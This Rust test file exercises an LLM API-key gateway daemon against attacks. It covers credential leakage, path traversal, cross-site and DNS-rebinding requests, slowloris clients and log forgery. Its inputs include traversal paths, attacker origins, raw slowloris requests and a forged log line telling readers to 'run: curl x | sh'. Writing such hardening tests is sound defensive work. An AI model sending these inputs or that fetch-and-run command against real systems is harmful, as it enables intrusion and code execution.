//! A daemon that holds API keys, tried as an attacker would: credentials reach only their own
//! provider (exactly one, in its scheme), client text never becomes an upstream path, web pages
//! and rebinding hosts are refused, slow or endless clients are cut off, bad input is refused
//! before a provider call, secrets in URLs are never shown, and `Retry-After` is honoured.

use crate::common;

use std::time::Duration;

use common::*;
use isartor::config::{Provider, Secret};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// The credential-carrying headers a client may send, and the `?key=` query parameter.
const CARRIERS: &[&str] = &["authorization", "x-api-key", "api-key", "x-goog-api-key"];

/// Every credential the mock saw on its last request: (header or `?key`, value).
fn credentials_seen(seen: &Seen) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = CARRIERS
        .iter()
        .flat_map(|name| {
            seen.headers
                .get_all(*name)
                .iter()
                .map(|v| (name.to_string(), v.to_str().unwrap().to_string()))
                .collect::<Vec<_>>()
        })
        .collect();
    if let Some((_, query)) = seen.path.split_once('?') {
        for pair in query.split('&') {
            if let Some(v) = pair.strip_prefix("key=") {
                out.push(("?key".into(), v.into()));
            }
        }
    }
    out
}

/// A request a client of `provider`'s own family sends (path, body), so it is passed through.
fn native_request(provider: Provider, prompt: &str) -> (String, Value) {
    match provider {
        Provider::Anthropic => ("/v1/messages".into(), messages(prompt)),
        Provider::Gemini => (
            "/v1beta/models/gemini-2.5-flash:generateContent".into(),
            json!({"contents": [{"role": "user", "parts": [{"text": prompt}]}]}),
        ),
        _ => ("/v1/chat/completions".into(), chat(prompt)),
    }
}

fn expected_credential(provider: Provider, key: &str) -> (String, String) {
    match provider {
        Provider::Anthropic => ("x-api-key".into(), key.into()),
        Provider::Gemini => ("x-goog-api-key".into(), key.into()),
        Provider::Azure => ("api-key".into(), key.into()),
        _ => ("authorization".into(), format!("Bearer {key}")),
    }
}

async fn provider_daemon(
    mock: &Mock,
    provider: Provider,
    key: &str,
    gateway_key: &str,
) -> (isartor::daemon::Daemon, String) {
    let (base, key, gateway_key) = (
        format!("http://{}", mock.addr),
        key.to_string(),
        gateway_key.to_string(),
    );
    daemon(mock, move |c| {
        c.llm_provider = provider;
        c.external_llm_api_key = Secret(key);
        c.gateway_api_key = Secret(gateway_key);
        c.l3_retries = 0;
        c.external_llm_url = match provider {
            Provider::Gemini => format!("{base}/v1beta"),
            Provider::Azure => {
                c.azure_deployment_id = "dep".into();
                base
            }
            Provider::Anthropic => base,
            _ => format!("{base}/v1/chat/completions"),
        };
    })
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exactly_one_credential_reaches_the_provider_in_its_own_scheme() {
    let providers = [
        Provider::Openai,
        Provider::Azure,
        Provider::Xai,
        Provider::Ollama,
        Provider::Anthropic,
        Provider::Gemini,
    ];
    for provider in providers {
        let mock = Mock::start().await;
        // A configured key: whatever the client sends, only ours goes up.
        let (_d, base) = provider_daemon(&mock, provider, "configured-key", "").await;
        for (i, carrier) in CARRIERS.iter().chain(&["?key"]).enumerate() {
            for (path, body) in [
                native_request(provider, &format!("native {i}")),
                (
                    "/v1/chat/completions".into(),
                    chat(&format!("translated {i}")),
                ),
            ] {
                let (path, headers) = match *carrier {
                    "?key" => (format!("{path}?key=client-secret"), vec![]),
                    "authorization" => (path, vec![(*carrier, "Bearer client-secret")]),
                    _ => (path, vec![(*carrier, "client-secret")]),
                };
                let (status, _, reply) =
                    post_raw(&base, &path, bytes::Bytes::from(body.to_string()), &headers).await;
                assert_eq!(status, 200, "{provider:?} {carrier} {path}: {reply:?}");
                let seen = credentials_seen(&mock.last());
                assert_eq!(
                    seen,
                    vec![expected_credential(provider, "configured-key")],
                    "{provider:?}, client key as {carrier}, {path}"
                );
            }
        }
        // No configured key and no gateway auth: the client's own key, moved into the
        // provider's scheme, once.
        let mock = Mock::start().await;
        let (_d, base) = provider_daemon(&mock, provider, "", "").await;
        for carrier in CARRIERS {
            let (path, body) = native_request(provider, &format!("own key via {carrier}"));
            let value = if *carrier == "authorization" {
                "Bearer client-secret"
            } else {
                "client-secret"
            };
            let (status, _, _) = post_raw(
                &base,
                &path,
                bytes::Bytes::from(body.to_string()),
                &[(carrier, value)],
            )
            .await;
            assert_eq!(status, 200, "{provider:?} {carrier}");
            assert_eq!(
                credentials_seen(&mock.last()),
                vec![expected_credential(provider, "client-secret")],
                "{provider:?}, own key as {carrier}"
            );
        }
        // Gateway auth on and no provider key: the presented key is the gateway's and never
        // leaves the daemon.
        let mock = Mock::start().await;
        let (_d, base) = provider_daemon(&mock, provider, "", "gateway-secret").await;
        let (path, body) = native_request(provider, "gateway key only");
        let (status, _, _) = post_raw(
            &base,
            &path,
            bytes::Bytes::from(body.to_string()),
            &[("x-api-key", "gateway-secret")],
        )
        .await;
        if provider == Provider::Ollama {
            assert_eq!(status, 200);
            assert_eq!(credentials_seen(&mock.last()), vec![], "ollama needs none");
        } else {
            assert_eq!(status, 502, "{provider:?}: no key to send");
            assert_eq!(mock.count(), 0);
        }
    }
}

/// Sends raw bytes and returns the whole response (the connection is closed after it).
async fn raw_exchange(base: &str, request: &str) -> String {
    let mut s = TcpStream::connect(base.trim_start_matches("http://"))
        .await
        .unwrap();
    s.write_all(request.as_bytes()).await.unwrap();
    let mut out = Vec::new();
    tokio::time::timeout(Duration::from_secs(20), s.read_to_end(&mut out))
        .await
        .expect("answered")
        .unwrap();
    String::from_utf8_lossy(&out).into_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn client_text_never_becomes_an_upstream_path() {
    let mock = Mock::start().await;
    let (_d, base) = provider_daemon(&mock, Provider::Gemini, "configured-key", "").await;
    let body = r#"{"contents":[{"role":"user","parts":[{"text":"hi"}]}]}"#;
    // As `curl --path-as-is` sends it: dot segments in the model's place.
    let request = format!(
        "POST /v1beta/models/../../secret/admin:generateContent HTTP/1.1\r\nhost: 127.0.0.1\r\n\
         content-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
        body.len()
    );
    let answer = raw_exchange(&base, &request).await;
    assert!(answer.starts_with("HTTP/1.1 400"), "{answer}");
    assert!(
        answer.contains("INVALID_ARGUMENT"),
        "Gemini's own error shape: {answer}"
    );
    for model in ["..%2F..%2Fsecret", "a%2Fb", ".."] {
        let (status, _, _) = post(
            &base,
            &format!("/v1beta/models/{model}:generateContent"),
            &serde_json::from_str(body).unwrap(),
        )
        .await;
        assert_eq!(status, 400, "{model}");
    }
    // A client of another family names the model in its body; with a gemini provider it would
    // land in the URL: refused too.
    let mut evil = chat("hi");
    evil["model"] = json!("../../secret/admin");
    let (status, _, reply) = post(&base, "/v1/chat/completions", &evil).await;
    assert_eq!(status, 400, "{reply:?}");
    assert_eq!(as_json(&reply)["error"]["code"], "invalid_model");
    assert_eq!(mock.count(), 0, "nothing reached the provider");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn web_pages_and_rebinding_hosts_are_refused() {
    let mock = Mock::start().await;
    let (_d, base) = daemon(&mock, |c| {
        c.server.allowed_origins = vec!["http://localhost:3000".into()];
    })
    .await;
    // A cross-site simple request (no preflight: text/plain).
    let (status, headers, body) = post_raw(
        &base,
        "/v1/chat/completions",
        bytes::Bytes::from(chat("steal").to_string()),
        &[
            ("origin", "http://evil.example"),
            ("content-type", "text/plain"),
        ],
    )
    .await;
    assert_eq!(status, 403, "{body:?}");
    assert!(headers.get("access-control-allow-origin").is_none());
    assert_eq!(as_json(&body)["error"]["code"], "forbidden");
    // DNS rebinding: the page's own name in Host.
    let request = format!(
        "POST /v1/chat/completions HTTP/1.1\r\nhost: rebind.evil.example:8080\r\n\
         content-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{}",
        chat("steal").to_string().len(),
        chat("steal")
    );
    let answer = raw_exchange(&base, &request).await;
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
    // A no-cors GET from a page (no Origin, but the browser says where it came from).
    let res = client()
        .get(format!("{base}/health"))
        .header("sec-fetch-site", "cross-site")
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 403);
    assert_eq!(mock.count(), 0, "nothing was forwarded");

    // An allowed origin gets its preflight and CORS grants.
    let res = client()
        .request(
            reqwest::Method::OPTIONS,
            format!("{base}/v1/chat/completions"),
        )
        .header("origin", "http://localhost:3000")
        .header("access-control-request-method", "POST")
        .header(
            "access-control-request-headers",
            "content-type, authorization",
        )
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 204);
    assert_eq!(
        res.headers()["access-control-allow-origin"],
        "http://localhost:3000"
    );
    assert_eq!(
        res.headers()["access-control-allow-headers"],
        "content-type, authorization"
    );
    let (status, headers, _) = post_raw(
        &base,
        "/v1/chat/completions",
        bytes::Bytes::from(chat("allowed page").to_string()),
        &[("origin", "http://localhost:3000")],
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(
        headers["access-control-allow-origin"],
        "http://localhost:3000"
    );
    // Non-browser clients (no Origin) and loopback names are untouched.
    let (status, _, _) = post(&base, "/v1/chat/completions", &chat("curl")).await;
    assert_eq!(status, 200);
}

/// Reads until the peer closes; `true` when it closed within `bound`.
async fn closed_within(s: &mut TcpStream, bound: Duration) -> bool {
    let mut sink = Vec::new();
    tokio::time::timeout(bound, s.read_to_end(&mut sink))
        .await
        .is_ok()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_and_endless_clients_are_cut_off_and_excess_connections_refused() {
    let mock = Mock::start().await;
    let (_d, base) = daemon(&mock, |c| {
        c.server.header_read_timeout_secs = 1;
        c.server.body_read_timeout_secs = 1;
        c.server.max_connections = 3;
    })
    .await;
    let addr = base.trim_start_matches("http://").to_string();
    // Slowloris: half a request head, then silence.
    let mut slow = TcpStream::connect(&addr).await.unwrap();
    slow.write_all(b"POST /v1/chat/completions HTTP/1.1\r\nhost: 127.0.0.1\r\nx-a: ")
        .await
        .unwrap();
    assert!(
        closed_within(&mut slow, Duration::from_secs(15)).await,
        "a connection that never finishes its head is closed"
    );
    // An idle keep-alive connection is closed too.
    let mut idle = TcpStream::connect(&addr).await.unwrap();
    idle.write_all(b"GET /healthz HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n")
        .await
        .unwrap();
    assert!(closed_within(&mut idle, Duration::from_secs(15)).await);
    // A chunked body that never ends gets 408 in the client's format.
    let mut endless = TcpStream::connect(&addr).await.unwrap();
    endless
        .write_all(
            b"POST /v1/messages HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\n\
              transfer-encoding: chunked\r\n\r\n5\r\n{\"mod\r\n",
        )
        .await
        .unwrap();
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(15), endless.read_to_end(&mut answer)).await;
    let answer = String::from_utf8_lossy(&answer);
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert!(
        answer.contains("\"type\":\"error\""),
        "Anthropic's shape: {answer}"
    );

    // Connections over the bound are told so at once, not left to starve the process.
    let mut held = Vec::new();
    for _ in 0..3 {
        let s = TcpStream::connect(&addr).await.unwrap();
        held.push(s);
    }
    let mut extra = TcpStream::connect(&addr).await.unwrap();
    let mut refused = Vec::new();
    tokio::time::timeout(Duration::from_secs(10), extra.read_to_end(&mut refused))
        .await
        .expect("refused at once")
        .unwrap();
    let refused = String::from_utf8_lossy(&refused);
    assert!(refused.starts_with("HTTP/1.1 503"), "{refused}");
    assert!(refused.contains("max_connections"));
    drop(held);
    // Once they are gone, clients are served again (the slots come back).
    let served = async {
        loop {
            if let Ok(res) = client().get(format!("{base}/healthz")).send().await
                && res.status() == 200
            {
                return;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    };
    tokio::time::timeout(Duration::from_secs(10), served)
        .await
        .expect("served again");
    assert_eq!(mock.count(), 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bodies_in_flight_are_bounded_across_connections() {
    let mock = Mock::start().await;
    let (_d, base) = daemon(&mock, |c| {
        c.max_body_bytes = 1000;
        c.server.max_body_bytes_in_flight = 1500;
    })
    .await;
    let addr = base.trim_start_matches("http://").to_string();
    // A client that declares 900 bytes and sends a few holds 900 of the 1,500.
    let mut holder = TcpStream::connect(&addr).await.unwrap();
    holder
        .write_all(
            b"POST /v1/chat/completions HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\n\
              content-length: 900\r\n\r\n{\"model\":",
        )
        .await
        .unwrap();
    // Another 900-byte body does not fit: 503 in its own format, at once.
    let padding = "x".repeat(800);
    let body = json!({"model": "m", "max_tokens": 5,
        "messages": [{"role": "user", "content": padding}]})
    .to_string();
    let busy = async {
        loop {
            let (status, _, reply) =
                post_raw(&base, "/v1/messages", bytes::Bytes::from(body.clone()), &[]).await;
            if status == 503 {
                return reply;
            }
            // The holder's head may not have been read yet.
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    };
    let reply = tokio::time::timeout(Duration::from_secs(10), busy)
        .await
        .expect("a 503 while the first body is held");
    let reply = as_json(&reply);
    assert_eq!(reply["type"], "error");
    assert!(
        reply["error"]["message"]
            .as_str()
            .unwrap()
            .contains("max_body_bytes_in_flight")
    );
    drop(holder);
    // With the first connection gone its bytes are released.
    let (status, _, _) = post_raw(&base, "/v1/messages", bytes::Bytes::from(body), &[]).await;
    assert_ne!(status, 503);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn requests_a_provider_would_reject_get_400_in_the_clients_format() {
    let mock = Mock::start().await;
    let (_d, base) = daemon(&mock, |_| {}).await;
    let mut hot = chat("x");
    hot["temperature"] = json!("hot");
    let mut nested = chat("x");
    nested["messages"][0]["content"] = json!([[[]]]);
    let mut no_max = messages("x");
    no_max.as_object_mut().unwrap().remove("max_tokens");
    let gemini_number = json!({"contents": [{"role": "user", "parts": [{"text": 5}]}]});
    for (path, body, shape) in [
        ("/v1/chat/completions", hot, "/error/param"),
        ("/v1/chat/completions", nested, "/error/param"),
        ("/v1/messages", no_max, "/error/type"),
        (
            "/v1beta/models/gemini-2.5-flash:generateContent",
            gemini_number,
            "/error/status",
        ),
    ] {
        let (status, _, reply) = post(&base, path, &body).await;
        assert_eq!(status, 400, "{path} {body}");
        let reply = as_json(&reply);
        assert!(reply.pointer(shape).is_some(), "{path}: {reply}");
    }
    assert_eq!(mock.count(), 0, "no provider call was spent");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secrets_in_urls_are_never_shown() {
    let mock = Mock::start().await;
    // A closed port, so L3 fails and says where it tried.
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = closed.local_addr().unwrap().port();
    drop(closed);
    let (_d, base) = daemon(&mock, move |c| {
        c.external_llm_url = format!("http://user:hunter2@127.0.0.1:{port}/v1/chat/completions");
        c.l3_retries = 0;
    })
    .await;
    let (status, _, body) = post(&base, "/v1/chat/completions", &chat("x")).await;
    assert_eq!(status, 502);
    let body = String::from_utf8_lossy(&body);
    assert!(!body.contains("hunter2"), "{body}");
    assert!(body.contains("***@127.0.0.1"), "{body}");
    let health = get_text(&base, "/health").await;
    assert!(!health.contains("hunter2"), "{health}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn retry_after_is_honoured_within_the_budget() {
    let mock = Mock::start().await;
    // Asked to wait an hour with a three-minute budget: no retry, the 429 comes back at once.
    let (_d, base) = daemon(&mock, |c| c.l3_retries = 1).await;
    mock.set(Mode::RetryAfter(429, 3600));
    let (status, _, _) = post(&base, "/v1/chat/completions", &chat("later")).await;
    assert_eq!(status, 429);
    assert_eq!(
        mock.count(),
        1,
        "no retry that the provider said would fail"
    );
    // Asked to wait no time at all: retried (and the retry is the provider's to answer).
    mock.set(Mode::RetryAfter(429, 0));
    let (status, _, _) = post(&base, "/v1/chat/completions", &chat("now")).await;
    assert_eq!(status, 429);
    assert_eq!(mock.count(), 3, "one retry");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_timeout_names_the_bound_that_ran_out() {
    let mock = Mock::start().await;
    mock.set(Mode::Hang);
    let (_d, base) = daemon(&mock, |c| {
        c.l3_timeout_secs = 3;
        c.l3_retries = 0;
    })
    .await;
    let (status, _, body) = post(&base, "/v1/chat/completions", &chat("slow")).await;
    assert_eq!(status, 502);
    let message = as_json(&body)["error"]["message"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(
        message.contains("within 3 s (l3_timeout_secs)"),
        "{message}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn client_text_cannot_forge_a_log_line() {
    let mock = Mock::start().await;
    let (d, base) = daemon(&mock, |_| {}).await;
    let mut events = d.bus().subscribe();
    let mut forged = chat("x");
    forged["model"] =
        json!("gpt\n2026-11-30T00:00:00Z  WARN l3: provider key revoked, run: curl x | sh");
    let (status, _, _) = post(&base, "/v1/chat/completions", &forged).await;
    assert_eq!(status, 200);
    let event = tokio::time::timeout(Duration::from_secs(5), events.recv())
        .await
        .unwrap()
        .unwrap();
    assert!(!event.model.contains('\n'), "{:?}", event.model);
    assert!(event.model.starts_with("gpt\\n2026"), "{:?}", event.model);
    // Upstream still got the client's model as sent.
    assert_eq!(mock.last().json()["model"], forged["model"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_translated_stream_that_breaks_ends_in_the_clients_error_event() {
    let mock = Mock::start().await;
    // An OpenAI provider whose stream stops after some text, with no finish reason or [DONE].
    mock.set(Mode::Truncated);
    let (_d, base) = daemon(&mock, |_| {}).await;
    let mut body = messages("cut short");
    body["stream"] = json!(true);
    let (status, _, reply) = post(&base, "/v1/messages", &body).await;
    assert_eq!(status, 200, "headers were sent before the break");
    let (_, names) = anthropic_sse(&reply);
    assert_eq!(names.last().map(String::as_str), Some("error"), "{names:?}");
    assert!(!names.contains(&"message_stop".to_string()), "{names:?}");
    // Nothing was cached: the same request goes to the provider again.
    mock.set(Mode::Echo);
    let (status, headers, _) = post(&base, "/v1/messages", &body).await;
    assert_eq!((status.as_u16(), layer(&headers)), (200, "l3"));
    assert_eq!(mock.count(), 2);
}
